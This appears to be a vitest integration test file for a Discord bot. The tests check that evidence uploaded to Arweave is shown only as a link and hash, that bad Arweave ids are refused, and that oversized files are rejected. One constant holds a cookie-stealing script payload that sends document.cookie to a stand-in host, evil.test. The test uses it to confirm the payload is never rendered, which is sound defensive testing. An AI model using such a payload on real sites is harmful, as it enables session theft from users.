/**
 * Evidence as Discord users see it (SECURITY.md "Evidence"): a file of HTML and script is
 * stored and shown only as its Arweave link and hash, in the answer and in the announcement
 * (an embed field, nothing in the message content for Discord to unfurl, no attachment); a
 * malformed Arweave id is refused in words with nothing stored. The real discord.js client on
 * the local Discord, arlocal, the real store.
 */
import { createHash } from "node:crypto";
import { describe, expect, it } from "vitest";
import { announce } from "../../../bot/core/usecases/announce.js";
import { deliverOutbox } from "../../../bot/core/usecases/deliver-outbox.js";
import type { InteractionRecord } from "../../discord-server/server.js";
import { campaign } from "../support/campaigns.js";
import { linkWallet, harnessPerFile, type Harness } from "./harness.js";

let h: Harness;
harnessPerFile({ writes: true }, (started) => (h = started));

const HOSTILE = '<script>fetch("https://evil.test/?c="+document.cookie)</script><h1>Totally real results</h1>';

async function final(ix: InteractionRecord): Promise<string> {
  await ix.waitFor((c) => c.kind === "edit-original" && !(typeof c.body.content === "string" && c.body.content.endsWith("…")), 30_000);
  return JSON.stringify(ix.visible());
}

describe("GIVEN evidence that is an HTML page with a script", () => {
  it("THEN the answer and the announcement show its Arweave link and hash only: never its content, no attachment, nothing to unfurl", async () => {
    const researcher = h.server.addMember("researcher");
    const wallet = await linkWallet(h, researcher);
    const c = campaign({ researcher: wallet.address });
    h.chain.campaigns.set(c.address, c);
    const bytes = new TextEncoder().encode(HOSTILE);
    const sha = createHash("sha256").update(bytes).digest("hex");
    const file = h.server.attachment("results.html", bytes, "text/html");
    const answer = await final(h.server.slash(researcher, "submit", { campaign: c.address, milestone: 0, evidence_type: "Paper", file }));
    // The configured gateway's link (arlocal here, not a hard-coded arweave.net), in the embed only: Discord unfurls links in content, never in embeds.
    const gateway = h.arlocal?.url ?? "";
    const id = new RegExp(`${gateway.replaceAll(".", "\\.")}/([A-Za-z0-9_-]{43})`).exec(answer)?.[1];
    expect(id).toBeDefined();
    expect((JSON.parse(answer) as { content: string }).content).not.toContain(gateway);
    expect(answer).not.toContain("arweave.net");
    expect(answer).toContain(sha);
    expect(answer).not.toContain("<script>");

    // Linking on the page told the researcher by DM (WalletLinked, the platform's direct target):
    // delivered first, so the count below is the announcement's alone.
    h.clock.set(new Date(Math.max(Date.now(), h.clock.now().getTime())));
    await deliverOutbox({ store: h.store, notifiers: { DISCORD: h.bot.notifier }, clock: h.clock }, 10);
    await h.store.subscriptions.add({ campaign: c.address, platform: "DISCORD", scopeId: h.server.world.guildId, channelId: h.server.channel.id, createdBy: h.manager.id });
    const url = `${gateway}/${id ?? ""}`;
    await announce(h.deps, {
      kind: "MilestoneSubmitted",
      campaign: { address: c.address, label: "#0" },
      milestone: { index: 0, title: "Assay", attempt: 1 },
      evidence: { id: id ?? "", url, sha256: sha, type: "Paper" },
      windowEnd: Math.floor(h.clock.now().getTime() / 1000) + 86_400,
      flagThreshold: 1_000n,
      quorumWeight: 100_000n,
    }, `evidence-html-${c.address}`);
    h.clock.set(new Date(Math.max(Date.now(), h.clock.now().getTime())));
    expect((await deliverOutbox({ store: h.store, notifiers: { DISCORD: h.bot.notifier }, clock: h.clock }, 10)).sent).toBe(1);
    const post = h.server.channelPosts(h.server.channel.id).find((p) => JSON.stringify(p.body).includes(c.address));
    const body = post?.body as { content?: string; embeds?: { description?: string }[]; attachments?: unknown[] } | undefined;
    expect(JSON.stringify(body?.embeds)).toContain(url);
    // A URL in the content would be unfurled by Discord (a preview of the page); it is only in the embed.
    expect(body?.content ?? "").not.toContain(url);
    expect(body?.attachments ?? []).toEqual([]);
    expect(JSON.stringify(body)).not.toContain("<script>");
  }, 60_000);
});

describe("GIVEN /submit with an Arweave id that is not one", () => {
  it("THEN it is refused in words and no signing request is stored", async () => {
    const researcher = h.server.addMember("researcher-2");
    const wallet = await linkWallet(h, researcher);
    const c = campaign({ researcher: wallet.address });
    h.chain.campaigns.set(c.address, c);
    // 43 characters, but the last one has spare bits set: not the spelling of any 32 bytes.
    for (const bad of [`${"A".repeat(42)}B`, `${"A".repeat(42)}!`]) {
      const answer = await final(h.server.slash(researcher, "submit", { campaign: c.address, milestone: 0, evidence_type: "Dataset", arweave_id: bad }));
      expect(answer).toContain("That is not an Arweave id");
    }
    expect(await h.db.prisma.signingRequest.count({ where: { signer: wallet.address } })).toBe(0);
  }, 60_000);
});

describe("GIVEN /submit with a file over the evidence limit (1 MB here)", () => {
  it("THEN it is refused from the attachment's declared size, before any download, with nothing stored", async () => {
    const researcher = h.server.addMember("researcher-3");
    const wallet = await linkWallet(h, researcher);
    const c = campaign({ researcher: wallet.address });
    h.chain.campaigns.set(c.address, c);
    const { attachment } = h.server.attachment("huge.bin", new Uint8Array(1_000_001), "application/octet-stream");
    // A download would fail (nothing listens there) and the answer would be the outage one.
    const file = { attachment: { ...attachment, url: "http://127.0.0.1:9/huge.bin", proxy_url: "http://127.0.0.1:9/huge.bin" } };
    const answer = await final(h.server.slash(researcher, "submit", { campaign: c.address, milestone: 0, evidence_type: "Dataset", file }));
    expect(answer).toContain("The evidence file is over the size limit");
    expect(await h.db.prisma.signingRequest.count({ where: { signer: wallet.address } })).toBe(0);
  }, 60_000);
});
